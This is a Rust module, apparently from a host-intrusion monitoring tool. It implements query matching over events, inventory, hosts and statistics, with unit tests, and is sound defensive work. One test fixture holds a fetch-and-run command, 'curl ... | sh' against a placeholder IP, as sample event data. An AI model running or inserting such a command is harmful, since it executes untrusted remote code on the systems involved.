//! The plain meaning of a query: the oracle of tests, the filter of live events, and what
//! backends fall back to.

use std::borrow::Cow;

use yinglong_model::{Event, EventData, host::Host, inventory::Element, statistics::Statistic};

use super::{Condition, HostKey, Key, Query, Target, Test, each_word};

impl Test {
    /// Whether it holds for a value.
    pub fn holds(&self, value: &str) -> bool {
        match self {
            Self::Words(wanted) => {
                let mut missing: Vec<&str> = wanted.iter().map(String::as_str).collect();
                each_word(value, |word| missing.retain(|wanted| *wanted != word));
                missing.is_empty()
            }
            Self::Exact(text) => value == text,
            Self::Same(lower) => value == lower || value.to_lowercase() == *lower,
            Self::Regex(pattern) => pattern.is_match(value),
            Self::Number(comparison) => value.parse().is_ok_and(|number| comparison.holds(number)),
        }
    }
}

impl HostKey {
    /// The value in an event.
    pub fn of_event(self, event: &Event) -> &str {
        match self {
            Self::Ip => &event.ip,
            Self::Hostname => &event.hostname,
            Self::AgentId => event.agent_id.as_str(),
            Self::System => event.system.as_str(),
        }
    }

    /// The value of a host.
    pub fn of_host(self, host: &Host) -> &str {
        match self {
            Self::Ip => &host.ip,
            Self::Hostname => &host.hostname,
            Self::AgentId => host.agent_id.as_str(),
            Self::System => host.report.platform.as_str(),
        }
    }
}

impl Query {
    /// Whether an event matches. Comparisons of statistics are not looked at.
    pub fn matches(&self, event: &Event) -> bool {
        let kind = event.data.event_type();
        self.kind.is_none_or(|wanted| wanted == Target::Event(kind))
            && self.covers(event.time)
            && self
                .conditions
                .iter()
                .all(|condition| holds_for_event(condition, event))
    }

    /// Whether an inventory element matches. Conditions on the host and the time range are not
    /// looked at: see [`Query::matches_host`].
    pub fn matches_element(&self, element: &Element) -> bool {
        self.conditions.iter().all(|condition| {
            let test = &condition.test;
            match &condition.key {
                Key::Host(_) => true,
                Key::Data(field) => element.get(field).is_some_and(|value| test.holds(value)),
                Key::All => element.values().any(|value| test.holds(value)),
            }
        })
    }

    /// Whether the conditions on the host hold.
    pub fn matches_host(&self, host: &Host) -> bool {
        self.conditions.iter().all(|condition| match condition.key {
            Key::Host(key) => condition.test.holds(key.of_host(host)),
            Key::Data(_) | Key::All => true,
        })
    }

    /// Whether a counted value matches: its type, its comparisons, its last report in the time
    /// range, and every condition on the counted field, `info` or `all`.
    pub fn matches_statistic(&self, statistic: &Statistic) -> bool {
        let number = |value: u64| i64::try_from(value).unwrap_or(i64::MAX);
        let (count, hosts) = (number(statistic.count), number(statistic.exist_count));
        let counted = Target::from_name(&statistic.kind).and_then(Target::statistics_key);
        self.kind.is_none_or(|kind| kind.as_str() == statistic.kind)
            && self.covers(statistic.uptime)
            && self.count.iter().all(|wanted| wanted.holds(count))
            && self.exist_count.iter().all(|wanted| wanted.holds(hosts))
            && self.conditions.iter().all(|condition| {
                let known = match &condition.key {
                    Key::All => true,
                    Key::Data(field) => field == "info" || Some(field.as_str()) == counted,
                    Key::Host(_) => false,
                };
                known && condition.test.holds(&statistic.info)
            })
    }
}

fn holds_for_event(condition: &Condition, event: &Event) -> bool {
    let test = &condition.test;
    let field = |name: &str| -> Option<Cow<'_, str>> { event.data.field(name) };
    match &condition.key {
        Key::Host(key) => test.holds(key.of_event(event)),
        Key::Data(name) => field(name).is_some_and(|value| test.holds(&value)),
        Key::All => {
            HostKey::ALL
                .into_iter()
                .any(|key| test.holds(key.of_event(event)))
                || EventData::field_names(event.data.event_type())
                    .iter()
                    .any(|name| field(name).is_some_and(|value| test.holds(&value)))
        }
    }
}

#[cfg(test)]
mod tests {
    use yinglong_model::{AgentId, EventId, Timestamp, event, event::Process, id::Epoch};

    use super::*;

    fn sample() -> Event {
        let agent_id = AgentId::from_bits(0xa);
        Event {
            id: EventId::derive(&agent_id, Epoch(1), 1),
            agent_id,
            ip: "192.0.2.1".into(),
            hostname: "Web-1".into(),
            system: event::System::Linux,
            seq: 1,
            time: Timestamp::from_secs(100),
            observed_at: Timestamp::from_secs(100),
            ingested_at: Timestamp::from_secs(100),
            data: EventData::Process(Box::new(Process {
                name: "/usr/bin/Curl".into(),
                command: "curl -s http://192.0.2.9/x | sh".into(),
                pid: 4242,
                ..Process::default()
            })),
        }
    }

    #[test]
    fn conditions_hold_as_documented() {
        fn check(conditions: &str, expected: bool) {
            let query = Query::parse(&format!("type:process | {conditions}")).unwrap();
            assert_eq!(query.matches(&sample()), expected, "{conditions}");
        }
        check("name:curl", true);
        check("name:CURL bin", true);
        check("name:cur", false);
        check("name.keyword:/usr/bin/Curl", true);
        check("name.keyword:/usr/bin/curl", false);
        check("command:/HTTP:.*sh$/", true);
        check("pid:4242", true);
        check("pid:>4241 | pid:<4243", true);
        check("pid:>4242", false);
        check("name:>1", false);
        check("all:web", true);
        check("all:curl 9", true);
        check("all:curl web", false);
        check("hostname:web-1 | system:LINUX | ip:192.0.2.1", true);
        check("hostname:web", false);
        check("user:root", false);
        check("agent_id:0000000000000000000000000000000a", true);
    }

    #[test]
    fn the_time_range_includes_its_start_and_not_its_end() {
        let query = || Query::parse("type:process").unwrap();
        let at = |secs| Some(Timestamp::from_secs(secs));
        assert!(query().since(at(100)).until(at(101)).matches(&sample()));
        assert!(!query().until(at(100)).matches(&sample()));
        assert!(!query().since(at(101)).matches(&sample()));
    }

    #[test]
    fn statistics_match_on_value_and_counts() {
        let statistic = Statistic {
            kind: "process".into(),
            info: "/usr/bin/id".into(),
            count: 2,
            server_list: Vec::new(),
            exist_count: 1,
            uptime: Timestamp::from_secs(5),
        };
        let matches = |text: &str| Query::parse(text).unwrap().matches_statistic(&statistic);
        assert!(matches("type:process | count:<3 | name:id"));
        assert!(matches("type:process | exist_count:1 | info:id"));
        assert!(!matches("type:process | count:>2"));
        assert!(!matches("type:startup | count:2"));
    }
}
